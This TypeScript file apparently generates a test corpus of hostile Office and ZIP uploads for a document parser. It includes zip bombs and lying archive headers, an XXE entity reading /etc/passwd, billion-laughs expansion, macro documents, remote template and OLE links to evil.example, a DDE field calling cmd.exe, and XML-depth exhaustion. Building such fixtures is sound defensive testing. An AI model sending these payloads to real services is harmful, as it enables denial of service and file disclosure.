import { deflateRawSync } from 'node:zlib';
import { EXCEL, forgeZip, packageOf, relation, wordXml } from './forge-zip.ts';
import type { HostileFile } from './files.ts';

const MB = 1024 * 1024;
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * MB, ' ');
const docx = (parts: Record<string, string | Uint8Array>, more?: Parameters<typeof packageOf>[2]): Buffer =>
  packageOf('docx', { 'word/document.xml': wordXml(), ...parts }, more);
const xlsx = (sheet: string, parts: Record<string, string> = {}, before = ''): Buffer =>
  packageOf('xlsx', {
    'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relation('worksheet', 'worksheets/sheet1.xml')
      .replace('rId9', 'rId1')
      .replace('</', `${/<Relationship .*\/>/u.exec(relation('sharedStrings', 'sharedStrings.xml'))?.[0] ?? ''}</`),
    'xl/worksheets/sheet1.xml': `${before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${sheet}</worksheet>`,
    ...parts,
  });
const report = (name: string, make: () => Buffer, fileName = '报告.docx'): HostileFile => ({ name, fileName, make });
const ledger = (name: string, make: () => Buffer, fileName = '台账.xlsx'): HostileFile => ({ name, fileName, make, route: 'ledger' }); // prettier-ignore

const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`;
const XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';

/** 42 kB whose directory lists the same 42 MB a hundred times: 4 GB. */
function overlappingBomb(): Buffer {
  const packed = deflateRawSync(zeros(42), { level: 9 });
  const first = { name: 'word/document.xml', data: packed, raw: true, size: 42 * MB, crc: 0 };
  return forgeZip([first, ...Array.from({ length: 99 }, (_, i) => ({ ...first, name: `word/media/${i}.xml`, sharedWith: first.name }))]); // prettier-ignore
}

/** Archives within archives, each packing ten of the next: five levels of 10 MB. */
function nested(): Buffer {
  let inner = forgeZip([{ name: '0.txt', data: zeros(10) }]);
  for (let level = 0; level < 4; level += 1) {
    const data = inner;
    inner = forgeZip(Array.from({ length: 10 }, (_, i) => ({ name: `${i}.zip`, data })));
  }
  return inner;
}

/** An archive whose one stored entry is the archive itself from its first byte on. */
function holdsItself(): Buffer {
  const bytes = forgeZip([{ name: 'word/document.xml', data: Buffer.alloc(200), raw: true, size: 230 }]);
  bytes.writeUInt16LE(0, 8);
  bytes.writeUInt32LE(0, 18);
  const directory = bytes.readUInt32LE(bytes.length - 6);
  bytes.writeUInt16LE(0, directory + 10);
  bytes.writeUInt32LE(bytes.length, directory + 20);
  return bytes;
}

/** Office files that swell, lie, nest without end, or bring something to run or to fetch. */
export const HOSTILE_ZIPS: readonly HostileFile[] = [
  report('zip bomb: 42 kB, 4 GB, entries that overlap', overlappingBomb),
  report('zip bomb: one part of 2 GB', () => docx({}, { forged: [{ name: 'word/media/a.xml', data: deflateRawSync(zeros(2_000)), raw: true, size: 2_000 * MB, crc: 0 }] })), // prettier-ignore
  report('zip bomb: archives in archives', nested),
  report('zip bomb: an archive that holds itself', holdsItself),
  report('zip: 50,000 entries', () => docx(Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`word/media/${i}.png`, 'x'])))), // prettier-ignore
  report('zip: says 1 kB, holds 500 MB', () => docx({}, { forged: [{ name: 'word/media/a.png', data: deflateRawSync(zeros(500)), raw: true, size: 1_024, crc: 0 }] })), // prettier-ignore
  report('zip: says 60 MB, holds 1 kB', () => docx({}, { forged: [{ name: 'word/media/a.png', data: deflateRawSync(Buffer.alloc(1_024)), raw: true, size: 60 * MB, crc: 0 }] })), // prettier-ignore
  report('.docx: text of 140 MB', () => docx({ 'word/document.xml': wordXml(`<w:p><w:r><w:t>${' '.repeat(140 * MB)}</w:t></w:r></w:p>`) })), // prettier-ignore
  report('.docx: external entity', () => docx({ 'word/document.xml': wordXml('<w:p><w:r><w:t>&a;</w:t></w:r></w:p>', XXE) })), // prettier-ignore
  report('.docx: billion laughs', () => docx({ 'word/document.xml': wordXml('<w:p><w:r><w:t>&j;</w:t></w:r></w:p>', LAUGHS) })), // prettier-ignore
  report('.docm: macros', () => docx({ 'word/vbaProject.bin': 'x' }, { type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), '报告.docm'), // prettier-ignore
  report('.docm renamed .docx', () => docx({ 'word/vbaProject.bin': 'x' }, { type: 'application/vnd.ms-word.document.macroEnabled.main+xml' })), // prettier-ignore
  report('.docx: external template', () => docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil.example/a.dotm', 'External') })), // prettier-ignore
  report('.docx: external object', () => docx({ 'word/_rels/document.xml.rels': relation('oleObject', 'http://evil.example/a', 'External') })), // prettier-ignore
  report('.docx: packaged program', () => docx({ 'word/embeddings/oleObject1.bin': 'MZ' })),
  report('.docx: DDE field', () => docx({ 'word/document.xml': wordXml('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>') })), // prettier-ignore
  report('.docx: 1,000,000 nested elements', () => docx({ 'word/document.xml': wordXml(`${'<w:r>'.repeat(1_000_000)}${'</w:r>'.repeat(1_000_000)}`) })), // prettier-ignore
  report('.docx: 9 MB in one attribute, no text', () => docx({ 'word/document.xml': wordXml(`<w:p w:rsidR="${'a'.repeat(9 * MB)}"/>`) })), // prettier-ignore
  report('.docx: 400,000 empty paragraphs', () => docx({ 'word/document.xml': wordXml('<w:p><w:r/></w:p>'.repeat(400_000)) })), // prettier-ignore
  report('.docx: cut in half', () => docx({}).subarray(0, 300)),
  report('.docx: encrypted entry', () => { const bytes = docx({}); bytes.writeUInt16LE(1, bytes.readUInt32LE(bytes.length - 6) + 8); return bytes; }), // prettier-ignore
  report('.ofd named .docx', () => forgeZip([{ name: 'OFD.xml', data: Buffer.from('<ofd:OFD xmlns:ofd="o"/>') }])),
  ledger('.xlsx: external entity', () => xlsx('<sheetData/>', {}, XXE)),
  ledger('.xlsx: billion laughs among the texts', () => xlsx('<sheetData/>', { 'xl/sharedStrings.xml': `${LAUGHS}<sst><si><t>&j;</t></si></sst>` })), // prettier-ignore
  ledger('.xlsx: a cell in the last row and column', () => xlsx('<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>a</t></is></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), // prettier-ignore
  ledger('.xlsx: 1,000,000 merged ranges', () => xlsx(`<sheetData/><mergeCells>${'<mergeCell ref="A1:B900000"/>'.repeat(1_000_000)}</mergeCells>`)), // prettier-ignore
  ledger('.xlsx: 1,000,000 nested elements', () => xlsx(`${'<a>'.repeat(1_000_000)}${'</a>'.repeat(1_000_000)}`)),
  ledger('.xlsx: sheet of 1 GB', () => packageOf('xlsx', { 'xl/workbook.xml': '<workbook/>' }, { type: EXCEL, forged: [{ name: 'xl/worksheets/sheet1.xml', data: deflateRawSync(zeros(1_000)), raw: true, size: 1_000 * MB, crc: 0 }] })), // prettier-ignore
];
